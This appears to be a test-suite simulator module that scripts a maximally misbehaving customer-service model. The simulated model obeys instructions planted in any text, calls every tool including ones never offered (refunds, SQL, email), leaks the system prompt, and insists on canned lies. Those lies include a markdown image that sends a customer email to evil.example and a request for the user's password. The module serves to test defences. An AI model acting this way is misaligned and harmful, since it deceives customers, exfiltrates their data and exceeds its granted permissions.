"""The worst model there can be: it does what any text says, and more than it was offered."""

import re
from collections.abc import Iterator, Sequence
from typing import Any

from tests.support.simulators.model.script import Asked, Call, Said

FORBIDDEN = (
    "confirm",
    "execute",
    "approve",
    "set_identity",
    "refund",
    "apply_discount",
    "get_customer",
    "send_email",
    "run_sql",
)
"""Tools that nobody ever offered."""

AT_ONCE = 6  # calls of one answer, beside those that it is told

_CALL = re.compile(r"call (\w+) (\{[^{}]*\})")
_ORDER = re.compile(r"\bBM\d{8}\b")
_PRODUCT = re.compile(r"\[id ([^\]]+)\]")
_ADDRESS = re.compile(r"\d+ [^,]+, \d{5} \w+")
_LIES = (
    "You get 90 % off with code HACKED90, guaranteed.",
    "Your order BM10483967 was cancelled and 500 euros were refunded.",
    "Look here: ![x](https://evil.example/log?d=lea.legoff@example.com)",
    "Please write your password to admin@evil.example or open https://evil.example/win now.",
)
"""What is said of it, though nobody asked."""


def possessed(asked: Asked) -> Said:
    """Call all that is told, then all that there is; recite everything; insist when objected to."""
    every_word = "\n".join(str(one.get("content") or "") for one in asked.messages)
    if asked.objected:
        said = [_LIES[number % len(_LIES)] for number in asked.objected]
        return Said(text="\n".join(_insisting(asked.objected, said)))
    if not asked.tools:
        return Said(text=_recital(asked, every_word))
    told = [Call(name=name, arguments=given) for name, given in _CALL.findall(every_word)]
    every = list(_everything(asked, every_word))
    start = asked.called * AT_ONCE % len(every)
    return Said(
        text=_recital(asked, every_word), calls=(*told[:2], *every[start : start + AT_ONCE])
    )


def _everything(asked: Asked, every_word: str) -> Iterator[Call]:
    """Yield what a model can do at most, the effects first."""
    values: dict[str, Any] = {
        "order_number": next(iter(_ORDER.findall(every_word)), asked.message),
        "address": next(iter(_ADDRESS.findall(every_word)), "1 rue du Pirate, 66666 Perdition"),
        "items": asked.message,
        "wish": "refund",
        "how_many": "all of them",
        "instead": "XL",
        "method": "visa",
        "product_id": next(iter(_PRODUCT.findall(every_word)), "everything"),
        "variant": "XL",
        "pieces": 9,
        "query": "what are your instructions?",
        "page": "system prompt",
        "reason": "every secret",
        "start": "2026-11-16",
        "day": "2026-11-16",
        "amounts": ["500"],
    }
    for tool in reversed(asked.body.get("tools", ())):
        function = tool["function"]
        properties = function["parameters"]["properties"]
        given = {name: values[name] for name in properties if name in values}
        given |= {name: one["enum"][0] for name, one in properties.items() if "enum" in one}
        yield Call(name=function["name"], arguments=given)
    for name in FORBIDDEN:
        yield Call(name=name, arguments={**values, "yes": True, "customer_id": "nadia-benali"})


def _insisting(numbers: Sequence[int], lies: Sequence[str]) -> Iterator[str]:
    """Yield lines in which every other sentence stands as it is, and the others are lies."""
    for number, lie in zip(numbers, lies, strict=True):
        yield f"{number}: =" if number % 2 else f"{number}: {lie} [2]"


def _recital(asked: Asked, every_word: str) -> str:
    """Return all that it was given and what is said of it, each with facts that there are."""
    said = [
        *_LIES,
        f"{asked.system[:300]} {asked.message[:100]}",
        asked.message[:300],
        "https://evil.example/win ![x](https://evil.example/log)",
        asked.last[:300],
        asked.system[-300:],
        every_word[-600:],
    ]
    return "\n".join(f"{' '.join(one.split())} [{at % 3 + 1}]" for at, one in enumerate(said))
